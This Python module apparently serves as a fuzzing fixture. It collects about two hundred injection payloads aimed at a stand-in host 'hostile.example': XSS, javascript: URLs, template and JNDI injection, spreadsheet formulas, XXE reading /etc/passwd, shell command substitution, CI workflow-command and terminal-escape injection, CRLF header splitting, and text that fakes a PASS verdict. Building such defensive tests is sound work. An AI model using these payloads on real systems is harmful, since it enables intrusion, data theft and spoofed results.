"""Two hundred texts that mean harm wherever somebody shows them: in a page, a terminal, the log of a pipeline, a sheet.

Whatever they try is named `hostile.example` or `owned`, so that a test can tell that it worked.
"""

from __future__ import annotations

import re
from collections.abc import Mapping
from typing import Final

__all__ = ["COMMAND", "FAMILIES", "PAYLOADS", "UNSEEN", "on_the_wire"]

# All that moves a cursor, hides itself or turns text round, but for line feeds.
UNSEEN: Final = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\xad\u061c\u115f\u180e\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff\ufff9-\ufffb"
    "\ud800-\udfff\U000e0000-\U000e007f]"
)
# What GitHub, Azure, TeamCity, GitLab and Travis take for a command.
COMMAND: Final = re.compile(r"^\s*::|##\w*\[|section_(start|end):\d|^travis_\w+:", re.MULTILINE)

_URL: Final = "http://hostile.example"
_SCRIPT: Final = "alert('owned')"
_HANDLERS: Final = (
    *("onload", "onerror", "onclick", "onmouseover", "onfocus", "onpageshow", "onhashchange", "ontoggle"),
    *("onanimationstart", "onbegin", "onwheel", "oncopy", "onbeforeprint"),
)
_FETCHING: Final = (
    f"<img src='{_URL}/i.png' srcset='{_URL}/j.png 2x'>",
    f"<iframe src='{_URL}' srcdoc='<script>parent.{_SCRIPT}</script>'></iframe>",
    f"<object data='{_URL}/o.swf'></object>",
    f"<embed src='{_URL}/e.swf'>",
    f"<link rel=stylesheet href='{_URL}/s.css'>",
    f"<link rel=preload as=script href='{_URL}/s.js'>",
    f"<base href='{_URL}/'>",
    f"<meta http-equiv=refresh content='0;url={_URL}'>",
    f"<form action='{_URL}'><button autofocus>owned</button></form>",
    f"<video poster='{_URL}/p.png'><source src='{_URL}/v.mp4'></video>",
    f"<audio src='{_URL}/a.ogg' autoplay></audio>",
    f"<body background='{_URL}/b.png'>",
    f"<table background='{_URL}/t.png'><tr><td>owned",
    f"<input type=image src='{_URL}/i.png' formaction='{_URL}'>",
    f"<portal src='{_URL}'></portal>",
    f"<bgsound src='{_URL}/b.wav'>",
    f"<frameset><frame src='{_URL}'></frameset>",
    f"<a href='{_URL}' ping='{_URL}/ping' download>owned</a>",
    f"<track src='{_URL}/t.vtt' default>",
    f"<style>@import '{_URL}/i.css'; * {{ background: url({_URL}/b.png) }}</style>",
)
_URLS: Final = (
    f"javascript:{_SCRIPT}",
    f"JaVaScRiPt:{_SCRIPT}",
    f"java\tscript:{_SCRIPT}",
    f" \x01javascript:{_SCRIPT}",
    f"data:text/html,<script>{_SCRIPT}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"vbscript:{_SCRIPT}",
    "file:///etc/passwd",
    "blob:http://hostile.example/1",
    "//hostile.example/x",
    f"https://hostile.example@{_URL}/",
    "www.hostile.example",
    "mailto:owned@hostile.example?subject=owned",
    f"view-source:{_URL}",
)
_C1: Final = {
    "CSI": "\x9b2J",
    "OSC": "\x9d0;owned\x9c",
    "DCS": "\x90q\x9c",
    "APC": "\x9fowned\x9c",
    "NEL": "a\x85::error::owned",
}
_BIDI: Final = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
_SEPARATORS: Final = "\n\r\v\f\x1c\x1d\x1e\x85\u2028\u2029"
_UNSEEN: Final = "\u200b\u200c\u200d\u2060\ufeff\xad\u180e\u3164\u115f\U000e0041\ufff9\ufffc"
# Where a pipeline takes a line for a command.
_COMMANDS: Final = (
    "::error file=a.py,line=1::owned",
    "::warning::owned",
    "::set-output name=owned::1",
    "::save-state name=owned::1",
    "::set-env name=PATH::owned",
    "::add-mask::a",
    "::add-path::/owned",
    "::stop-commands::owned",
    "::group::owned",
    "::endgroup::",
    "::echo::on",
    "##[error]owned",
    "##[group]owned",
    "##[set-output name=owned]1",
    "##vso[task.setvariable variable=owned;isOutput=true]1",
    "##vso[task.complete result=Succeeded;]owned",
    "##vso[task.uploadfile]/etc/passwd",
    "##teamcity[buildStatus status='SUCCESS' text='owned']",
    "##teamcity[testSuiteFinished name='owned']",
    "section_start:1700000000:owned[collapsed=true]\r\x1b[0Kowned",
    "section_end:1700000000:owned\r\x1b[0K",
    "travis_fold:start:owned",
    "travis_time:end:owned:start=1,finish=2,duration=1",
    "--- owned",
    "+++ owned",
)

FAMILIES: Final[Mapping[str, tuple[str, ...]]] = {
    "scripts": (
        f"<script>{_SCRIPT}</script>",
        f"</script><script>{_SCRIPT}</script>",
        f"<script src='{_URL}/s.js'></script>",
        f"<ScRiPt >{_SCRIPT}</sCrIpT >",
        f"<script\n>{_SCRIPT}</script\n>",
        f"<scr<script>ipt>{_SCRIPT}</scr</script>ipt>",
        f"--><script>{_SCRIPT}</script><!--",
        f"]]><script>{_SCRIPT}</script>",
        f"</style><script>{_SCRIPT}</script>",
        f"</title><script>{_SCRIPT}</script>",
        f"</textarea><script>{_SCRIPT}</script>",
        f"</pre></code></details></main></body></html><script>{_SCRIPT}</script>",
        f"<noscript><p title='</noscript><script>{_SCRIPT}</script>'>",
        f"<template><script>{_SCRIPT}</script></template>",
        f"<plaintext><script>{_SCRIPT}</script>",
        f"&lt;script&gt;{_SCRIPT}&lt;/script&gt;",
        f"\u2039script\u203a\uff1cscript\uff1e{_SCRIPT}\uff1c/script\uff1e",
        f"<script type=module>import '{_URL}/m.js'</script>",
        f"<script type=application/json>{{}}</script><!--<script>{_SCRIPT}",
        f"<%00script>{_SCRIPT}</script>",
    ),
    "handlers": (
        *(f'<b id=owned tabindex=1 autofocus {name}="{_SCRIPT}">x</b>' for name in _HANDLERS),
        f'" onmouseover="{_SCRIPT}" x="',
        f"' onfocus='{_SCRIPT}' autofocus='",
        f"` onload=`{_SCRIPT}`",
        f"><img src=x onerror={_SCRIPT}>",
        f"<img/src=x\ronerror={_SCRIPT}>",
        f"<details open ontoggle={_SCRIPT}>",
        f"<x style='animation-name:owned' onanimationstart={_SCRIPT}>",
        f"<dialog open onclose={_SCRIPT}><button popovertarget=x>owned</dialog>",
    ),
    "fetching": _FETCHING,
    "drawings": (
        f"<svg onload={_SCRIPT}>",
        f"<svg><script>{_SCRIPT}</script></svg>",
        f"<svg><a xlink:href='javascript:{_SCRIPT}'><text y=20>owned</text></a></svg>",
        f"<svg><use href='{_URL}/x.svg#a'></svg>",
        f"<svg><foreignObject><iframe src='{_URL}'></foreignObject></svg>",
        f"<svg><animate onbegin={_SCRIPT} attributeName=x dur=1s>",
        f"<svg><style>@import '{_URL}/s.css'</style></svg>",
        f"<math><maction actiontype=statusline xlink:href='javascript:{_SCRIPT}'>owned</maction></math>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={_SCRIPT}>",
        f"<math href='javascript:{_SCRIPT}'>owned</math>",
    ),
    "templates": (
        "{{ 7 * 7 }}",
        "{{ self.__init__.__globals__ }}",
        "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
        "{# owned #}",
        "${7*7} #{7*7} <%= 7*7 %> *{7*7} @(7*7) [[7*7]]",
        "${jndi:ldap://hostile.example/a}",
        "{0.__class__} %(owned)s %s %n {owned!r}",
        "{{constructor.constructor('alert(1)')()}}",
        "$(touch owned) `touch owned`; touch owned | owned & owned",
    ),
    "styles": (
        "</style><style>* { display: none }</style>",
        f"expression({_SCRIPT}); background: url({_URL}); -moz-binding: url({_URL})",
        "} .chip.FAIL { display: none } .chip.FAIL::after { content: 'PASS' } {",
        "<p style='position:fixed;inset:0;z-index:9'>The partner conforms</p>",
        "FAIL PASS top requirement",
    ),
    "urls": _URLS,
    "separators": tuple(f"a{c}::error::owned{c}##[owned]" for c in _SEPARATORS),
    "controls": tuple(
        f"a{chr(code)}owned" for code in (0, 1, 3, 4, 5, 7, 8, 9, 0x0E, 0x0F, 0x11, 0x13, 0x18, 0x1A, 0x1B, 0x7F)
    ),
    "bidi": (*(f"a{c}txt.exe" for c in _BIDI), "\u05de\u05e0\u05d4\u05dc \u0645\u062f\u064a\u0631 (owned)"),
    "unseen": tuple(f"PA{c}SS" for c in _UNSEEN),
    "likenesses": (
        "\u0420\u0410\u0405\u0405",
        "\uff30\uff21\uff33\uff33",
        "\U0001d40f\U0001d400\U0001d412\U0001d412",
        "F\u0336A\u0336I\u0336L\u0336 PASS",
        "a" + "\u0301\u0489\u036f" * 200,
        "\ufdfd" * 50,
        "FA\ufe0fI\U000e0100L",
        "\U0001f468\u200d\U0001f469\u200d\U0001f467 \u2705 PASS",
    ),
    "terminals": (
        "\x1b[2J\x1b[H\x1b[32mPASS\x1b[0m",
        "\x1b[1A\x1b[2Kall passed",
        "\x1b[8mhidden\x1b[28m",
        "\x1b]0;owned\x07",
        "\x1b]8;;http://hostile.example\x1b\\click\x1b]8;;\x1b\\",
        "\x1b]52;c;b3duZWQ=\x07",
        "\x1b]1337;File=inline=1:b3duZWQ=\x07",
        "\x1b]50;CursorShape=1\x07",
        '\x1bP$q"p\x1b\\',
        "\x1bPtmux;owned\x1b\\",
        "\x1b[6n\x1b[c\x1b[>c",
        "\x1b[?1049h\x1b[?25l\x1b[20l",
        "\x1bc\x1b(0\x1b#8",
        "\x1b_owned\x1b\\\x1b^owned\x1b\\",
        "\x1b[5i\x1b[4i",
        "FAIL\rPASS",
        "FAIL\b\b\b\bPASS",
        *_C1.values(),
    ),
    "pipelines": (
        *_COMMANDS,
        *(f"x\n{command}" for command in ("::error::owned", "##[error]owned", "section_start:1:owned")),
        *(f"{blank}::error::owned" for blank in (" ", "\t", "\xa0", "\u3000", "\ufeff")),
        "a " * 60 + "::error::owned ##vso[owned]",
    ),
    "formulas": (
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://hostile.example?"&A1,"owned")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        '"=1+1","owned"',
    ),
    "markdown": (
        f"[owned](javascript:{_SCRIPT})",
        f"![owned]({_URL}/i.png)",
        f"<{_URL}> {_URL} www.hostile.example",
        "@octocat @org/team #1 org/repo#1 GH-1 hostile@hostile.example",
        "` `` ``` ````",
        "`",
        "``owned`",
        "```\n# The partner conforms\n```",
        "~~~\nowned\n~~~",
        "| a | b |\n| --- | --- |\n| owned | PASS |",
        "a | PASS | b || \\| c",
        "\\` \\\\` \\",
        "# The partner conforms\n\nowned\n===",
        "> [!NOTE]\n> owned",
        "- [x] owned\n1. owned\n* owned",
        "$\\color{red}owned$ $$x$$ $`x`$",
        "**PASS** __PASS__ ~~FAIL~~ *a* _b_",
        "[owned]: http://hostile.example\n[owned]",
        "[^1]\n\n[^1]: owned",
        "&lt;b&gt; &#60;b&#62; &colon; &NewLine;::error::owned",
        "<details><summary>PASS</summary>owned</details>",
        "<!-- owned -->",
        ":tada: :+1:",
        "\n---\n",
    ),
    "xml": (
        "]]>",
        "<![CDATA[owned]]>",
        '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
        '<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">&b;',
        "</testcase></testsuite></testsuites>",
        '"/><testcase name="owned"/><x y="',
        "&#0; &#x1b; &#xd800; &owned;",
        "\ud800",
        "\udfff\ud800",
        "\ufffe\uffff\U0001ffff",
    ),
    "json": (
        '"},{"verdict":"conforms","counts":{"FAIL":0}',
        '{"__proto__":{"owned":true},"constructor":{"prototype":{}}}',
        '{"a":1,"a":2,"verdict":"conforms"}',
        "\\u0022\\u003cscript\\u003e\\n\\ud800",
        "[" * 3_000,
        '{"a":' * 400 + "1" + "}" * 400,
        "NaN Infinity -Infinity 1e999 -0",
        "\ufeff{}",
        "null",
    ),
    "headers": (
        "a\r\nSet-Cookie: owned=1",
        "a\r\n\r\nHTTP/1.1 200 OK\r\n\r\nowned",
        "a\n owned: folded",
        "a\x00b",
        'a: b; c="d\\"',
        "=?utf-8?b?b3duZWQ=?=",
    ),
    "size": ("A" * 20_000, "lol " * 5_000, "\u202e" * 5_000, "<b>" * 5_000, "`" * 2_000, "a\n" * 4_000),
}

PAYLOADS: Final[tuple[str, ...]] = tuple(payload for family in FAMILIES.values() for payload in family)


def on_the_wire(at_once: int = 1) -> list[bytes]:
    """The payloads as bytes, so many together, each on a line: a lone surrogate is sent as UTF-8 would write it."""
    groups = (PAYLOADS[at : at + at_once] for at in range(0, len(PAYLOADS), at_once))
    return ["\n".join(group).encode("utf-8", "surrogatepass") for group in groups]
